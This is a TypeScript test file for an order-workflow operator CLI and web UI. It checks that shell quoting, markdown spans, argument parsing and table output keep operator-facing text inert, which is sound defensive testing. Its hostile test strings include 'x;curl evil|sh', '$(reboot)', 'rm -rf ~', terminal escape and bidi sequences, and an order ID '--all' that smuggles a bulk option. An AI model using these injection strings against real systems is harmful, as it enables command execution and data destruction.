import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import { formatFields, formatTable, inert } from '../../../src/ops/output';
import { markdownCode, shellCommand, shellQuote } from '../../../src/util/shell-quote';
import { summarizeOrderCancelled } from '../../../src/domains/orders/order-summary';
import type { StartCommand } from '../../../src/events/translate';
import { detailsOf } from '../../../src/kafka-bridge/workflow-starter';
import { splitCommandLine } from '../../../src/ops/main';
import { nextCommandsOf } from '../../../src/ops/order-show';
import { countByClass } from '../../../src/reconcile/classify';
import { formatReportTable } from '../../../src/reconcile/format';
import { currentDetailsOf } from '../../../src/domains/orders/workflows/order-details';
import type { OrderStatus } from '../../../src/domains/orders/workflows/order-definitions';

/** What bash makes of a pasted line: the argv of `printf '%s\0'`, never anything run. */
function argvOf(line: string): string[] {
  const r = spawnSync('bash', ['-c', `printf '%s\\0' ${line}`], { encoding: 'utf8' });
  assert.equal(r.status, 0, r.stderr);
  return r.stdout.split('\0').slice(0, -1);
}

describe('operator output is inert (issue 17)', () => {
  const hostile = [
    'x;curl evil|sh',
    "it's $(reboot) `id` & > /tmp/x",
    'line\nrm -rf ~',
    'esc\u001b[2J\u001b]0;title\u0007',
    '',
    'plain-id_1.2:3',
  ];

  it('shellQuote gives one word that bash reads back as exactly the input', () => {
    for (const arg of hostile) {
      assert.deepEqual(argvOf(shellQuote(arg)), [arg], JSON.stringify(arg));
      assert.ok(
        !shellQuote(arg).includes('\n') && !shellQuote(arg).includes('\u001b'),
        'no raw controls',
      );
    }
    assert.equal(shellQuote('order-123'), 'order-123');
    assert.deepEqual(argvOf(shellCommand(['a b', 'c'])), ['a b', 'c']);
  });

  it('markdownCode keeps backticks inside the code span', () => {
    assert.equal(markdownCode('a`b'), '``a`b``');
    assert.equal(markdownCode('`x`'), '`` `x` ``');
  });

  it("the Web UI's current details quote the order ID in every command", () => {
    const id = 'x;curl evil|sh';
    const status = {
      orderId: id,
      step: 'needs_attention',
      parked: { step: 'email', since: '2026-01-01T00:00:00Z', error: 'boom' },
      keys: { email: `order:${id}:email` },
      recoveryPoints: [],
    } as unknown as OrderStatus;
    const text = currentDetailsOf(status);
    for (const verb of ['retry', 'resolve', 'cancel']) {
      const line = new RegExp(`\`(npx onceflow orders ${verb} [^\`]+)\``).exec(text)?.[1];
      assert.ok(line, `${verb} command in ${text}`);
      assert.deepEqual(argvOf(line), ['npx', 'onceflow', 'orders', verb, '--', id]);
    }
  });

  it('suggested commands put `--` before the ID: an order `--all` stays one order (issue 23)', () => {
    const status = {
      orderId: '--all',
      step: 'needs_attention',
      parked: { step: 'charge', since: '2026-01-01T00:00:00Z', error: 'boom' },
      keys: { charge: 'order:--all:charge' },
      recoveryPoints: [],
    } as unknown as OrderStatus;
    const commands = [
      ...[...currentDetailsOf(status).matchAll(/`(npx onceflow orders [^`]+)`/g)].map((m) => m[1]!),
      ...nextCommandsOf('--all').split(' · '),
    ];
    assert.equal(commands.length, 6, commands.join('\n'));
    for (const line of commands) {
      const argv = argvOf(line).slice(2);
      // What the CLI makes of it: the ID after `--`, never the bulk option.
      const parsed = splitCommandLine(argv);
      assert.deepEqual(parsed.options, ['orders', argv[1]]);
      assert.ok(!parsed.options.includes('--all'), line);
      assert.deepEqual(parsed.args.slice(2), ['--', '--all'], line);
    }
  });

  it('the CLI reads `--json`/`--all` only before `--`', () => {
    assert.deepEqual(splitCommandLine(['orders', 'retry', '--all', '--json']), {
      json: true,
      args: ['orders', 'retry', '--all'],
      options: ['orders', 'retry', '--all', '--json'],
    });
    const id = splitCommandLine(['orders', 'show', '--json', '--', '--json']);
    assert.equal(id.json, true);
    assert.deepEqual(id.args, ['orders', 'show', '--', '--json']);
    assert.equal(
      splitCommandLine(['orders', 'retry', '--', '--all']).options.includes('--all'),
      false,
    );
  });

  it('markdownCode: one closed span, whatever backticks and line breaks the text holds', () => {
    assert.equal(markdownCode('a\n\n`b'), '``a\\n\\n`b``');
    assert.equal(markdownCode('``'), '``` `` ```');
    assert.equal(markdownCode(''), '` `');
  });

  it("the Web UI's summary and details: a reason with newlines and markdown, backticks in an event ID", () => {
    const reason = 'customer asked\n\n# Refund NOW\n[click](https://evil.example) <b>x</b>';
    const summary = summarizeOrderCancelled({ orderId: 'o-1', reason });
    assert.equal(summary, `Cancel order \`o-1\` · ${markdownCode(reason)}`);
    assert.ok(!summary.includes('\n'), summary);
    const status = {
      orderId: 'o`1',
      step: 'cancelled',
      cancellation: { reason },
      outcome: 'cancelled',
      owner: { workflowId: 'OrderPlaced:e:ev`` `x', fingerprint: 'f', runFingerprint: 'g' },
      operatorActions: [{ action: 'cancel', by: 'eve\n**boss**', at: 't', reason }],
      keys: {},
      recoveryPoints: [],
    } as unknown as OrderStatus;
    const details = currentDetailsOf(status);
    // Paragraphs are only the ones the details make: none comes from the reason.
    assert.equal(details.split('\n\n').length, 6, details);
    assert.ok(!details.includes('\n#'), details);
    assert.ok(details.includes('```OrderPlaced:e:ev`` `x```'), details);
    const started = detailsOf(
      {
        eventType: 'OrderPlaced',
        eventId: 'ev`](https://evil.example)',
        identity: 'e:ev`](https://evil.example)',
        fingerprint: 'fp',
      } as unknown as StartCommand,
      { topic: 'orders', partition: 0, offset: '1' },
    );
    assert.ok(started.includes('``ev`](https://evil.example)``'), started);
  });

  it("reconcile's table escapes control characters in subjects and details", () => {
    const discrepancies = [
      {
        class: 'refund-missing' as const,
        subject: 'o\u001b[2J\rX',
        detail: 'line\nfake-class  forged  row\u009b31m',
      },
    ];
    const table = formatReportTable(
      {
        clean: false,
        discrepancies,
        counts: countByClass(discrepancies),
        read: {
          messages: 1,
          validEvents: 1,
          identities: 1,
          poison: 0,
          ledgerRows: 1,
          workflows: 1,
          orders: 1,
          payouts: 0,
          carts: 0,
          reservations: 1,
          claims: 1,
          settledClaims: 1,
          dlqMessages: 0,
          eventsKnownSince: null,
        },
      },
      'scope\u001b]0;t\u0007',
    );
    for (const raw of ['\u001b', '\r', '\u009b', '\u0007'])
      assert.ok(!table.includes(raw), JSON.stringify(table));
    assert.ok(table.includes('o\\x1b[2J\\rX'), table);
    assert.equal(table.split('\n').filter((l) => l.includes('forged')).length, 1, table);
  });

  it('CLI tables and fields escape control characters and bidi overrides', () => {
    const key = 'k\u001b[31mRED\r\u202eevil\n';
    const table = formatTable(['KEY'], [[key]]);
    const fields = formatFields([['key', key]]);
    for (const out of [table, fields]) {
      for (const raw of ['\u001b', '\r', '\u202e'])
        assert.ok(!out.includes(raw), JSON.stringify(out));
      assert.ok(out.includes('k\\x1b[31mRED\\r\\u202eevil\\n'), out);
    }
    assert.equal(inert('plain'), 'plain');
  });
});
